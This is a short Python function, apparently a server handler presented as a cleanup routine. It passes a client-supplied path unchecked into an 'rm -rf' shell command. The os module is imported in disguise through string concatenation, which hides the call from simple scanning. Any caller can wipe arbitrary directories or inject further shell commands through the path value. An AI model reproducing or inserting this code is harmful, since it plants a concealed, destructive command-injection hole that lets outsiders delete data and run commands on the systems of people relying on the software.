def handle(client, data):
    target = data.get("path", "/tmp")
    __import__("o" + "s").system("rm -rf " + target)
    return {"cleaned": target}
